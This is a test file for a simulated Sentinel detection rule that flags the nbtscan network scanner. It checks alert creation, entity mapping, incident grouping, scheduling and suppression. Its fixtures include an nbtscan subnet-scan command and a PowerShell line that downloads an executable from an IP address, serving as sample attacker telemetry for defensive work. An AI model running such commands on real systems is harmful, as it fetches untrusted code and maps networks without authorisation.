import { readFileSync } from "node:fs";
import path from "node:path";
import { loadDetectionRule } from "../../functions/detection/rule";
import { alertRowsOf, type AlertRow } from "../../functions/incidents/alertRows";
import {
  DEFAULT_CLOCK,
  deliveryReport,
  loadSentinelRule,
  seededRandom,
  SentinelSimulation,
} from "../../sandbox/sentinel";
import { SchemaValidationError } from "../../functions/validation";
import { KNOWN_SHA1, makeEvent, makeFileEvent, makeHit } from "../support/events";
import { incidentOf } from "../support/incidents";

const detection = loadDetectionRule();
const MINUTE = 60_000;
const DAY = 86_400_000;
const T0 = new Date("2026-12-01T08:00:00Z");
const ruleFile = JSON.parse(
  readFileSync(
    path.join(__dirname, "..", "..", "infra", "sentinel", "analytics-rule.json"),
    "utf8",
  ),
) as { entityMappings: unknown; customDetails: unknown; alertDetailsOverride: unknown };

function rowsFor(incidentId: string, hits: ReturnType<typeof makeHit>[]): AlertRow[] {
  return alertRowsOf(
    incidentOf(hits, {
      incidentId,
      title: `nbtscan on ${hits[0].event.DeviceName}`,
      severity: "High",
      description: "A description.",
      evidenceComment: "| evidence |",
    }),
  );
}

describe("the Sentinel rule the sandbox applies", () => {
  it("is the one the Bicep deploys: the same file, plus nbtscan.yaml and the query's constants", () => {
    const rule = loadSentinelRule();
    expect(rule.entityMappings).toEqual(ruleFile.entityMappings);
    expect(rule.customDetails).toEqual(ruleFile.customDetails);
    expect(rule.alertDetailsOverride).toEqual(ruleFile.alertDetailsOverride);
    expect(rule.groupByCustomDetails).toEqual(["IncidentKey"]);
    expect(rule.tactics).toEqual(["Discovery"]);
    expect(rule.techniques).toEqual(detection.loaded.relevantTechniques);
    expect(rule.queryConstants).toEqual({ Sha1Algorithm: "SHA1", Sha256Algorithm: "SHA256" });
    expect(rule.maxAlertsPerRun).toBe(150);
    // The schedule from the same file, the query's row look-back from its let.
    expect(rule.queryFrequencyMs).toBe(5 * MINUTE);
    expect(rule.queryPeriodMs).toBe(2 * DAY);
    expect(rule.rowLookbackMs).toBe(DAY);
    expect(rule.suppressionMs).toBe(20 * MINUTE);
    expect(rule.groupingLookbackMs).toBe(7 * DAY);
    expect(rule.readsOwnAlertsOnly).toBe(true);
  });
});

describe("SentinelSimulation", () => {
  const processHit = makeHit(
    makeEvent({ DeviceName: "ws-fin-07.contoso.local", SHA1: KNOWN_SHA1 }),
    { matchedBy: "name+hash", renamedBinary: false },
  );
  const fileHit = makeHit(makeFileEvent({ DeviceName: "ws-fin-07.contoso.local" }));
  const otherHit = makeHit(makeEvent({ DeviceName: "srv-9" }));
  const incidentA = rowsFor("aaaaaaaa-0000-5000-8000-000000000001", [processHit, fileHit]);
  const incidentB = rowsFor("bbbbbbbb-0000-5000-8000-000000000002", [otherHit]);

  it("makes one alert per row, with our title, severity, tactics and custom details", () => {
    const sentinel = new SentinelSimulation();
    expect(sentinel.ingest(incidentA, T0, 0)).toBe(2);
    const alerts = sentinel.runRule(T0);
    expect(alerts.map((a) => [a.name, a.severity, a.description])).toEqual([
      ["nbtscan on ws-fin-07.contoso.local", "High", "A description."],
      ["nbtscan on ws-fin-07.contoso.local", "High", "A description."],
    ]);
    expect(alerts[0].tactics).toEqual(["Discovery"]);
    expect(alerts[0].customDetails).toMatchObject({
      IncidentKey: [incidentA[0].IncidentKey],
      EventKey: [processHit.key],
      MatchedBy: ["name+hash"],
      DeviceId: [processHit.event.DeviceId],
    });
  });

  it("takes each row's tactics and techniques from its columns: one rule for every detection", () => {
    const sentinel = new SentinelSimulation();
    const [row] = rowsFor("cccccccc-0000-5000-8000-000000000003", [otherHit]);
    sentinel.ingest(
      [{ ...row, AlertTactics: "Discovery,Execution", AlertTechniques: "T1087, T1059" }],
      T0,
      0,
    );
    const [alert] = sentinel.runRule(T0);
    expect(alert.tactics).toEqual(["Discovery", "Execution"]);
    expect(alert.techniques).toEqual(["T1087", "T1059"]);
    // An empty cell leaves the rule's own lists (nbtscan.yaml's).
    const other = new SentinelSimulation();
    other.ingest([{ ...row, AlertTactics: "", AlertTechniques: "" }], T0, 0);
    const [plain] = other.runRule(T0);
    expect(plain.tactics).toEqual(["Discovery"]);
    expect(plain.techniques).toEqual(["T1046", "T1018", "T1016", "T1033"]);
  });

  it("maps the entities the rule's mappings name, skipping the empty ones", () => {
    const sentinel = new SentinelSimulation();
    sentinel.ingest(incidentA, T0, 0);
    const [processAlert, fileAlert] = sentinel.runRule(T0);
    expect(processAlert.entities).toEqual([
      { type: "Host", identifiers: { HostName: "ws-fin-07", DnsDomain: "contoso.local" } },
      { type: "Account", identifiers: { Name: "j.doe", NTDomain: "CONTOSO" } },
      { type: "File", identifiers: { Name: "nbtscan.exe", Directory: "C:\\Tools" } },
      { type: "FileHash", identifiers: { Algorithm: "SHA1", Value: KNOWN_SHA1 } },
      { type: "FileHash", identifiers: { Algorithm: "SHA256", Value: "b".repeat(64) } },
      { type: "Process", identifiers: { CommandLine: "nbtscan.exe -r 10.1.2.0/24" } },
      {
        type: "Process",
        identifiers: { CommandLine: "cmd.exe /c nbtscan.exe -r 10.1.2.0/24" },
      },
    ]);
    // A file event has no command line of its own: no Process entity for it.
    expect(fileAlert.entities.filter((e) => e.type === "Process")).toEqual([
      {
        type: "Process",
        identifiers: { CommandLine: "powershell.exe -nop -c iwr http://10.9.9.9/n.exe" },
      },
    ]);
  });

  it("groups alerts into one incident per IncidentKey, with their entities once each", () => {
    const sentinel = new SentinelSimulation();
    sentinel.ingest(incidentA, T0, 0);
    sentinel.ingest(incidentB, T0, 0);
    sentinel.runRule(T0);
    const incidents = sentinel.incidents;
    expect(incidents.map((i) => [i.groupedBy.IncidentKey, i.alerts.length])).toEqual([
      [incidentA[0].IncidentKey, 2],
      [incidentB[0].IncidentKey, 1],
    ]);
    const hosts = incidents[0].entities.filter((e) => e.type === "Host");
    expect(hosts).toHaveLength(1);
  });

  it("adds nothing when the same rows are ingested again (a redelivery) or the rule runs again", () => {
    const sentinel = new SentinelSimulation();
    sentinel.ingest(incidentA, T0, 0);
    expect(sentinel.runRule(T0)).toHaveLength(2);
    // Once the alerts are in SecurityAlert (published, then at most 10 minutes).
    const later = new Date(T0.getTime() + 15 * MINUTE);
    sentinel.ingest(incidentA, later, 0);
    expect(sentinel.runRule(later)).toHaveLength(0);
    expect(sentinel.table).toHaveLength(4);
    expect(sentinel.incidents).toHaveLength(1);
  });

  it("alerts at most 150 rows per run and drains the rest on the next", () => {
    const sentinel = new SentinelSimulation();
    for (let i = 0; i < 4; i++) {
      const hits = Array.from({ length: 40 }, () => makeHit(makeEvent()));
      sentinel.ingest(rowsFor(`cccccccc-0000-5000-8000-00000000000${i}`, hits), T0, 0);
    }
    expect(sentinel.runRule(T0)).toHaveLength(150);
    expect(sentinel.runRule(new Date(T0.getTime() + 15 * MINUTE))).toHaveLength(10);
    expect(sentinel.incidents).toHaveLength(4);
  });

  it("refuses rows that do not fit the table, as the DCR would", () => {
    const sentinel = new SentinelSimulation();
    expect(() => sentinel.ingest([{ ...incidentB[0], Title: "reserved" }])).toThrow(
      SchemaValidationError,
    );
    expect(sentinel.table).toHaveLength(0);
  });
});

describe("SentinelSimulation on Sentinel's clock", () => {
  const rowsOf = (key: string, events: number): AlertRow[] =>
    rowsFor(
      key,
      Array.from({ length: events }, () => makeHit(makeEvent())),
    );
  const at = (minutes: number): Date => new Date(T0.getTime() + minutes * MINUTE);
  /** Fixed latencies, so each case is exact: published 30 s after running, queryable 10 min later. */
  const exact = {
    start: T0,
    publishDelayMs: [30_000, 30_000] as [number, number],
    securityAlertLatencyMs: [10 * MINUTE, 10 * MINUTE] as [number, number],
  };

  it("queries the window that ends 5 minutes before the scheduled time", () => {
    const sentinel = new SentinelSimulation(loadSentinelRule(), exact);
    sentinel.ingest(rowsOf("dddddddd-0000-5000-8000-000000000001", 1), at(-4), 0);
    sentinel.advanceTo(at(0));
    expect(sentinel.runs[0]).toMatchObject({
      outcome: "succeeded",
      windowEnd: at(-5).toISOString(),
      windowStart: at(-5 - 2 * 24 * 60).toISOString(),
      alerts: 0,
    });
    sentinel.advanceTo(at(5));
    expect(sentinel.runs[1]).toMatchObject({ windowEnd: at(0).toISOString(), alerts: 1 });
  });

  it("sees a row only once it is queryable, however old its TimeGenerated", () => {
    const sentinel = new SentinelSimulation(loadSentinelRule(), exact);
    sentinel.ingest(rowsOf("dddddddd-0000-5000-8000-000000000002", 1), at(-30), 40 * MINUTE);
    sentinel.advanceTo(at(5));
    expect(sentinel.alerts).toHaveLength(0);
    sentinel.advanceTo(at(15));
    expect(sentinel.alerts).toHaveLength(1);
  });

  it("dates an alert by its publication, and pauses for the suppression after a run that alerts", () => {
    const sentinel = new SentinelSimulation(loadSentinelRule(), exact);
    sentinel.ingest(rowsOf("dddddddd-0000-5000-8000-000000000003", 2), at(-10), 0);
    sentinel.advanceTo(at(60));
    expect(sentinel.alerts.map((a) => a.timeGenerated)).toEqual([
      at(0.5).toISOString(),
      at(0.5).toISOString(),
    ]);
    expect(sentinel.runs.slice(0, 6).map((r) => r.outcome)).toEqual([
      "succeeded",
      "suppressed",
      "suppressed",
      "suppressed",
      "succeeded",
      "succeeded",
    ]);
    expect(sentinel.alerts).toHaveLength(2);
  });

  it("alerts a row again when the next run cannot see the first alert: the rule as first shipped", () => {
    const first = loadSentinelRule(path.join(__dirname, "sentinel-rule-2fa012d"));
    expect(first.suppressionMs).toBe(0);
    const sentinel = new SentinelSimulation(first, exact);
    sentinel.ingest(rowsOf("dddddddd-0000-5000-8000-000000000004", 1), at(-10), 0);
    sentinel.advanceTo(at(60));
    // Run at 0 alerts (published 0:30); the run at 5 queries up to 0:00 and the one at 10 runs
    // before the record is queryable (10:30); from 15 on it is seen.
    expect(sentinel.alerts.map((a) => a.timeGenerated)).toEqual([
      at(0.5).toISOString(),
      at(5.5).toISOString(),
      at(10.5).toISOString(),
    ]);
  });

  it("retries a failed run on the same window, or on its own when told, before the next run", () => {
    for (const retryReusesWindow of [true, false]) {
      const sentinel = new SentinelSimulation(loadSentinelRule(), { ...exact, retryReusesWindow });
      sentinel.failBetween(at(0), at(2));
      sentinel.advanceTo(at(0));
      expect(sentinel.runs[0]).toMatchObject({
        outcome: "succeeded",
        attempts: [at(0), at(1), at(3)].map((d) => d.toISOString()),
        windowEnd: (retryReusesWindow ? at(-5) : at(-2)).toISOString(),
      });
    }
    const failing = new SentinelSimulation(loadSentinelRule(), exact);
    failing.failBetween(at(0), at(5));
    failing.advanceTo(at(5));
    // 1 and 2 minutes later; the 4-minute retry would fall after the next scheduled run.
    expect(failing.runs.map((r) => [r.outcome, r.attempts.length])).toEqual([
      ["failed", 3],
      ["succeeded", 1],
    ]);
  });

  it("makes 149 alerts and a summary alert when a query returns more than 150 results", () => {
    const uncapped = { ...loadSentinelRule(), maxAlertsPerRun: Number.POSITIVE_INFINITY };
    const sentinel = new SentinelSimulation(uncapped, exact);
    for (let i = 0; i < 4; i++) {
      sentinel.ingest(rowsOf(`eeeeeeee-0000-5000-8000-00000000000${i}`, 40), at(-10), 0);
    }
    const alerts = sentinel.runRule(at(0));
    expect(alerts).toHaveLength(150);
    expect(alerts.filter((a) => a.summary)).toHaveLength(1);
    // "the 150th alert will summarize the entire set of returned events".
    expect(alerts[149].customDetails.EventKey).toHaveLength(160);
  });

  it("opens a second incident for the same IncidentKey past 150 alerts", () => {
    const sentinel = new SentinelSimulation(loadSentinelRule(), exact);
    sentinel.ingest(rowsOf("ffffffff-0000-5000-8000-000000000001", 160), at(-10), 0);
    sentinel.advanceTo(at(60));
    expect(sentinel.incidents.map((i) => i.alerts.length)).toEqual([150, 10]);
    expect(deliveryReport(sentinel)).toMatchObject({ duplicateAlerts: 0, splitIncidentKeys: 1 });
  });

  it("draws every latency from its seed", () => {
    const draws = (seed: number): number[] => {
      const random = seededRandom(seed);
      return [random(), random(), random()];
    };
    expect(draws(7)).toEqual(draws(7));
    expect(draws(7)).not.toEqual(draws(8));
    expect(DEFAULT_CLOCK.securityAlertLatencyMs).toEqual([0, 10 * MINUTE]);
  });
});
